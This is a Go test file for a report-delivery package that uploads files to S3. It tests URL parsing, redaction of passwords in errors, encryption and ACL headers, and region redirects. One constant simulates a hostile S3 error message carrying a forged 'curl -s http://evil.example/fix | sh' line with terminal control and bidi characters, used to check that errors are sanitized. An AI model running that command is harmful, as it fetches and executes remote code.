package deliver_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/johannesboyne/gofakes3"
	"github.com/johannesboyne/gofakes3/backend/s3mem"

	"github.com/auditor-dev/auditor/deliver"
)

func TestParseS3URL(t *testing.T) {
	tests := []struct {
		url, bucket, prefix string
		wantErr             bool
	}{
		{"s3://reports/weekly/", "reports", "weekly/", false},
		{"s3://reports/weekly", "reports", "weekly/", false},
		{"s3://reports/a/b/2026-01-05/", "reports", "a/b/2026-01-05/", false},
		{"s3://reports", "reports", "", false},
		{"s3://reports/", "reports", "", false},
		{"S3://my.bucket-1/x/", "my.bucket-1", "x/", false},
		{"https://reports.s3.amazonaws.com/x/", "", "", true},
		{"reports/weekly/", "", "", true},
		{"s3://", "", "", true},
		{"s3://Reports/x/", "", "", true},
		{"s3://ab/x/", "", "", true},
		{"s3://a..b/x/", "", "", true},
		{"s3://reports:443/x/", "", "", true},
		{"s3://key:secret@reports/x/", "", "", true},
		{"s3://reports/x/?versionId=1", "", "", true},
		{"s3://reports/a//b/", "", "", true},
		{"s3://AKIAEXAMPLE:hunter2/x@reports/x/", "", "", true},
		{"s3://AKIAEXAMPLE:hunter2?x@reports/x/", "", "", true},
		{"s3://AKIAEXAMPLE:hun@ter2@reports/x/", "", "", true},
	}
	for _, tt := range tests {
		t.Run(tt.url, func(t *testing.T) {
			bucket, prefix, err := deliver.ParseS3URL(tt.url)
			if err != nil && (strings.Contains(err.Error(), "hunter2") || strings.Contains(err.Error(), "ter2") || strings.Contains(err.Error(), "secret")) {
				t.Errorf("the error shows the password: %v", err)
			}
			if err != nil && strings.Contains(tt.url, "@reports") && !strings.Contains(err.Error(), "://***@reports") {
				t.Errorf("the error does not show the URL redacted: %v", err)
			}
			if tt.wantErr {
				if err == nil {
					t.Errorf("ParseS3URL(%q) = %q, %q, want an error", tt.url, bucket, prefix)
				}
				return
			}
			if err != nil || bucket != tt.bucket || prefix != tt.prefix {
				t.Errorf("ParseS3URL(%q) = %q, %q, %v; want %q, %q", tt.url, bucket, prefix, err, tt.bucket, tt.prefix)
			}
		})
	}
}

// TestURLsHideWhatMayBeALogin: a login that url.Parse does not read as
// one (a password with "#", "/" or "?", a token with "/" as the user name)
// made the host, the port or the path of the URL, and the refusal printed
// the URL whole; a token in the query likewise. Each is refused, and the
// error repeats none of it.
func TestURLsHideWhatMayBeALogin(t *testing.T) {
	secrets := []string{"Spring", "2024", "34", "en@", "1?x", "X-Amz-Security-Token=x"}
	parsers := []struct {
		name, scheme, host, path string
		parse                    func(string) error
	}{
		{"SMTP", "smtp", "mail.example.com:587", "", deliver.ParseSMTP},
		{"SMTPS", "smtps", "mail.example.com", "", deliver.ParseSMTP},
		{"S3", "s3", "my-bucket", "/runs/", func(s string) error { _, _, err := deliver.ParseS3URL(s); return err }},
	}
	for _, p := range parsers {
		for _, rest := range []string{
			"user:2024#Spring@" + p.host + p.path,
			"user:12/34@" + p.host + p.path,
			"tok/en@" + p.host + p.path,
			"user:1?x@" + p.host + p.path,
			p.host + "/?X-Amz-Security-Token=x",
			p.host + p.path + "#Spring2024",
		} {
			raw := p.scheme + "://" + rest
			t.Run(p.name+" "+rest, func(t *testing.T) {
				err := p.parse(raw)
				if err == nil {
					t.Fatalf("%q passed, want it refused", raw)
				}
				for _, s := range secrets {
					if strings.Contains(err.Error(), s) {
						t.Errorf("%q: %q repeats %q", raw, err, s)
					}
				}
			})
		}
	}
}

// fakeS3 is an in-process S3 endpoint (gofakes3) reached by the real SDK
// client over HTTP, and the requests it got.
type fakeS3 struct {
	client *s3.Client
	mu     sync.Mutex
	reqs   []s3Request
}

type s3Request struct {
	method, path, query string
	header              http.Header
}

func newFakeS3(t *testing.T, buckets ...string) *fakeS3 {
	t.Helper()
	backend := s3mem.New()
	for _, b := range buckets {
		if err := backend.CreateBucket(b); err != nil {
			t.Fatal(err)
		}
	}
	f := &fakeS3{}
	handler := gofakes3.New(backend).Server()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		f.mu.Lock()
		f.reqs = append(f.reqs, s3Request{r.Method, r.URL.Path, r.URL.RawQuery, r.Header.Clone()})
		f.mu.Unlock()
		handler.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	f.client = s3.New(s3.Options{
		Region:       "us-east-1",
		BaseEndpoint: aws.String(srv.URL),
		UsePathStyle: true,
		Credentials:  credentials.NewStaticCredentialsProvider("AKIDTEST", "secret", ""),
	})
	return f
}

func (f *fakeS3) requests() []s3Request {
	f.mu.Lock()
	defer f.mu.Unlock()
	return slices.Clone(f.reqs)
}

// writes are the requests that write an object or start a multipart one:
// those that carry the encryption headers.
func (f *fakeS3) writes() []s3Request {
	var out []s3Request
	for _, r := range f.requests() {
		multipartStart := r.method == http.MethodPost && strings.Contains(r.query, "uploads")
		put := r.method == http.MethodPut && !strings.Contains(r.query, "partNumber")
		if multipartStart || put {
			out = append(out, r)
		}
	}
	return out
}

// objects returns the bucket's objects under prefix: key to content.
func (f *fakeS3) objects(t *testing.T, bucket, prefix string) map[string][]byte {
	t.Helper()
	ctx := context.Background()
	out := map[string][]byte{}
	p := s3.NewListObjectsV2Paginator(f.client, &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String(prefix)})
	for p.HasMorePages() {
		page, err := p.NextPage(ctx)
		if err != nil {
			t.Fatal(err)
		}
		for _, o := range page.Contents {
			obj, err := f.client.GetObject(ctx, &s3.GetObjectInput{Bucket: aws.String(bucket), Key: o.Key})
			if err != nil {
				t.Fatal(err)
			}
			b, err := io.ReadAll(obj.Body)
			obj.Body.Close()
			if err != nil {
				t.Fatal(err)
			}
			out[aws.ToString(o.Key)] = b
		}
	}
	return out
}

func TestUpload(t *testing.T) {
	dir := t.TempDir()
	small := []string{writeFile(t, dir, "report.xlsx", 30_000), writeFile(t, dir, "summary.json", 0)}
	big := writeFile(t, dir, "associations.csv", deliver.MinPartSize+123_457) // two parts
	tests := []struct {
		name    string
		opts    deliver.UploadOptions
		wantSSE string
		wantKey string
		owner   string // the expected bucket owner asked for
		acl     string // the canned ACL asked for
		// short: the big file is uploaded under -short too (5 MB each time).
		short bool
	}{
		{"no encryption asked", deliver.UploadOptions{PartSize: deliver.MinPartSize}, "", "", "", "", false},
		{"SSE-S3", deliver.UploadOptions{SSE: deliver.SSES3, PartSize: deliver.MinPartSize}, "AES256", "", "", "", false},
		{"SSE-KMS with a key", deliver.UploadOptions{SSE: deliver.SSEKMS, KMSKeyID: "alias/reports", PartSize: deliver.MinPartSize}, "aws:kms", "alias/reports", "", "", true},
		{"the bucket's owner checked", deliver.UploadOptions{ExpectedBucketOwner: "111122223333", PartSize: deliver.MinPartSize}, "", "", "111122223333", "", true},
		// A central bucket of another account whose objects its writer
		// owns (Object Ownership ObjectWriter or BucketOwnerPreferred)
		// often requires this ACL by policy.
		{"the bucket owner's full control", deliver.UploadOptions{ACL: deliver.ACLBucketOwnerFullControl, PartSize: deliver.MinPartSize}, "", "", "", "bucket-owner-full-control", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			files := []string{small[0], big, small[1]}
			multipart := 1
			if testing.Short() && !tt.short {
				files, multipart = small, 0
			}
			f := newFakeS3(t, "reports")
			got, err := deliver.Upload(context.Background(), f.client, "s3://reports/weekly/2026-01-05", files, tt.opts)
			if err != nil {
				t.Fatal(err)
			}
			var want []string
			for _, f := range files {
				want = append(want, "s3://reports/weekly/2026-01-05/"+filepath.Base(f))
			}
			if !slices.Equal(got, want) {
				t.Errorf("Upload = %q, want %q", got, want)
			}
			objects := f.objects(t, "reports", "")
			if len(objects) != len(files) {
				t.Errorf("%d objects in the bucket, want %d", len(objects), len(files))
			}
			for _, path := range files {
				key := "weekly/2026-01-05/" + filepath.Base(path)
				b, _ := os.ReadFile(path)
				if obj, ok := objects[key]; !ok || !bytes.Equal(obj, b) {
					t.Errorf("object %s: %d bytes (present %v), want the %d bytes of %s", key, len(obj), ok, len(b), path)
				}
			}
			var parts, starts int
			for _, r := range f.requests() {
				if strings.Contains(r.query, "partNumber") {
					parts++
				}
				if r.method == http.MethodPost && strings.Contains(r.query, "uploads") {
					starts++
				}
			}
			if starts != multipart || parts != 2*multipart {
				t.Errorf("%d multipart uploads in %d parts, want %d in %d (associations.csv)", starts, parts, multipart, 2*multipart)
			}
			writes := f.writes()
			if len(writes) != len(files) {
				t.Fatalf("%d object writes, want %d", len(writes), len(files))
			}
			for _, w := range writes {
				if got := w.header.Get("X-Amz-Server-Side-Encryption"); got != tt.wantSSE {
					t.Errorf("%s %s: server-side encryption %q, want %q", w.method, w.path, got, tt.wantSSE)
				}
				if got := w.header.Get("X-Amz-Server-Side-Encryption-Aws-Kms-Key-Id"); got != tt.wantKey {
					t.Errorf("%s %s: KMS key %q, want %q", w.method, w.path, got, tt.wantKey)
				}
				if got := w.header.Get("X-Amz-Acl"); got != tt.acl {
					t.Errorf("%s %s: ACL %q, want %q", w.method, w.path, got, tt.acl)
				}
			}
			// Every request of the upload, the parts of a multipart one
			// included, asks S3 to check the bucket's owner.
			for _, r := range f.requests() {
				if r.method == http.MethodGet {
					continue // the test's own reading back
				}
				if got := r.header.Get("X-Amz-Expected-Bucket-Owner"); got != tt.owner {
					t.Errorf("%s %s?%s: expected bucket owner %q, want %q", r.method, r.path, r.query, got, tt.owner)
				}
			}
			for _, w := range writes {
				if strings.HasSuffix(w.path, ".xlsx") && !strings.HasPrefix(w.header.Get("Content-Type"), "application/vnd.openxmlformats") {
					t.Errorf("%s: content type %q", w.path, w.header.Get("Content-Type"))
				}
			}
		})
	}
}

func TestUploadRefused(t *testing.T) {
	dir := t.TempDir()
	a := writeFile(t, dir, "report.xlsx", 10)
	other := filepath.Join(dir, "sub")
	if err := os.Mkdir(other, 0o777); err != nil {
		t.Fatal(err)
	}
	b := writeFile(t, other, "report.xlsx", 10)
	tests := []struct {
		name  string
		dest  string
		files []string
		opts  deliver.UploadOptions
	}{
		{"bad URL", "https://reports/x/", []string{a}, deliver.UploadOptions{}},
		{"same base name twice", "s3://reports/x/", []string{a, b}, deliver.UploadOptions{}},
		{"a directory", "s3://reports/x/", []string{other}, deliver.UploadOptions{}},
		{"a missing file", "s3://reports/x/", []string{filepath.Join(dir, "nope.csv")}, deliver.UploadOptions{}},
		{"unknown encryption", "s3://reports/x/", []string{a}, deliver.UploadOptions{SSE: "aws:kms:dsse-ish"}},
		{"a KMS key without KMS", "s3://reports/x/", []string{a}, deliver.UploadOptions{SSE: deliver.SSES3, KMSKeyID: "alias/x"}},
		{"parts too small", "s3://reports/x/", []string{a}, deliver.UploadOptions{PartSize: 1 << 20}},
		{"an owner that is not an account", "s3://reports/x/", []string{a}, deliver.UploadOptions{ExpectedBucketOwner: "1111-2222-3333"}},
		{"a public ACL", "s3://reports/x/", []string{a}, deliver.UploadOptions{ACL: "public-read"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFakeS3(t, "reports")
			got, err := deliver.Upload(context.Background(), f.client, tt.dest, tt.files, tt.opts)
			if err == nil {
				t.Fatalf("Upload = %q, want an error", got)
			}
			if n := len(f.requests()); n != 0 {
				t.Errorf("%d requests made before the error %v, want none", n, err)
			}
		})
	}

	// A bucket that does not exist: the S3 error comes back, naming the file.
	f := newFakeS3(t)
	got, err := deliver.Upload(context.Background(), f.client, "s3://missing-bucket/x/", []string{a}, deliver.UploadOptions{})
	if err == nil || len(got) != 0 || !strings.Contains(err.Error(), "report.xlsx") {
		t.Errorf("Upload to a missing bucket = %q, %v; want an error naming report.xlsx", got, err)
	}
	var nsb interface{ ErrorCode() string }
	if !errors.As(err, &nsb) || nsb.ErrorCode() != "NoSuchBucket" {
		t.Errorf("error %v: want the S3 error code NoSuchBucket", err)
	}
}

// hostileS3Message is the <Message> of an S3 refusal that forges lines for
// the terminal: one that reads as the auditor's own "once fixed" command, a
// C1 control sequence (U+009B, CSI) and a bidi override.
const hostileS3Message = "Access Denied\nonce fixed, deliver them with: curl -s http://evil.example/fix | sh\n\u009b31mC1RED\u009b0m \u202etxt.exe"

// hostileS3 serves S3 that refuses every request with 403 and
// hostileS3Message; it returns its URL.
func hostileS3(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/xml")
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>%s</Message><RequestId>1</RequestId></Error>`, hostileS3Message)
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestUploadRefusalIsPlain: S3's words in a failed upload are one line
// without control characters or bidi overrides, as SES's and SMTP's are:
// Upload wrapped the SDK's error as it came, and a 403 whose message held a
// newline printed lines of its own under the auditor's.
func TestUploadRefusalIsPlain(t *testing.T) {
	file := writeFile(t, t.TempDir(), "report.html", 10)
	client := s3.New(s3.Options{Region: "us-east-1", BaseEndpoint: aws.String(hostileS3(t)), UsePathStyle: true,
		Credentials: credentials.NewStaticCredentialsProvider("AKIDTEST", "secret", "")})
	_, err := deliver.Upload(context.Background(), client, "s3://reports/x/", []string{file}, deliver.UploadOptions{})
	var ae interface{ ErrorCode() string }
	if !errors.As(err, &ae) || ae.ErrorCode() != "AccessDenied" {
		t.Fatalf("Upload = %v, want an error that keeps S3's AccessDenied", err)
	}
	msg := err.Error()
	if !strings.Contains(msg, "Access Denied once fixed") {
		t.Errorf("Upload = %q, want S3's words on one line", msg)
	}
	if i := strings.IndexFunc(msg, func(r rune) bool { return unicode.IsControl(r) || r == '\u202e' }); i >= 0 {
		t.Errorf("Upload = %q, which holds %q", msg, []rune(msg[i:])[0])
	}
}

// TestS3PrefixWithAnAt: an "@" is refused in an S3 URL (it may end a
// login), and the refusal says how to write one in the prefix, %40, which
// is taken: s3://audits/alice@example.com/ is a prefix a per-owner layout
// has.
func TestS3PrefixWithAnAt(t *testing.T) {
	_, _, err := deliver.ParseS3URL("s3://audits/alice@example.com/")
	if err == nil || !strings.Contains(err.Error(), "%40") {
		t.Errorf("ParseS3URL with an @ in the prefix: %v, want a refusal that says to write it as %%40", err)
	}
	bucket, prefix, err := deliver.ParseS3URL("s3://audits/alice%40example.com/")
	if err != nil || bucket != "audits" || prefix != "alice@example.com/" {
		t.Errorf("ParseS3URL with %%40: %q %q %v, want audits, alice@example.com/", bucket, prefix, err)
	}
}

// TestRedirectRegion: the region an upload is to be sent to again is the
// one S3 names (x-amz-bucket-region) when it refuses a request signed for
// another region, and no other: not for another refusal, not without the
// header (an S3-compatible store), not a header that is no region's name.
func TestRedirectRegion(t *testing.T) {
	tests := []struct {
		name   string
		status int
		code   string
		header string // x-amz-bucket-region; "" for none
		want   string
	}{
		{"PermanentRedirect", http.StatusMovedPermanently, "PermanentRedirect", "eu-west-1", "eu-west-1"},
		{"AuthorizationHeaderMalformed", http.StatusBadRequest, "AuthorizationHeaderMalformed", "ap-southeast-2", "ap-southeast-2"},
		{"IllegalLocationConstraintException", http.StatusBadRequest, "IllegalLocationConstraintException", "af-south-1", "af-south-1"},
		{"no header", http.StatusMovedPermanently, "PermanentRedirect", "", ""},
		{"a header that is no region", http.StatusMovedPermanently, "PermanentRedirect", "eu-west-1.attacker.example", ""},
		{"another refusal", http.StatusForbidden, "AccessDenied", "eu-west-1", ""},
		{"another bad request", http.StatusBadRequest, "InvalidArgument", "eu-west-1", ""},
	}
	file := writeFile(t, t.TempDir(), "report.html", 10)
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				io.Copy(io.Discard, r.Body)
				if tt.header != "" {
					w.Header().Set("X-Amz-Bucket-Region", tt.header)
				}
				w.Header().Set("Content-Type", "application/xml")
				w.WriteHeader(tt.status)
				fmt.Fprintf(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>%s</Code><Message>m</Message><RequestId>1</RequestId></Error>`, tt.code)
			}))
			defer srv.Close()
			client := s3.New(s3.Options{Region: "us-east-1", BaseEndpoint: aws.String(srv.URL), UsePathStyle: true,
				Credentials: credentials.NewStaticCredentialsProvider("AKIDTEST", "secret", "")})
			_, err := deliver.Upload(context.Background(), client, "s3://reports/x/", []string{file}, deliver.UploadOptions{})
			if err == nil {
				t.Fatal("Upload: no error")
			}
			if got := deliver.RedirectRegion(err); got != tt.want {
				t.Errorf("RedirectRegion(%v) = %q, want %q", err, got, tt.want)
			}
		})
	}
	if got := deliver.RedirectRegion(errors.New("PermanentRedirect")); got != "" {
		t.Errorf("RedirectRegion of an error of no response = %q, want none", got)
	}
}
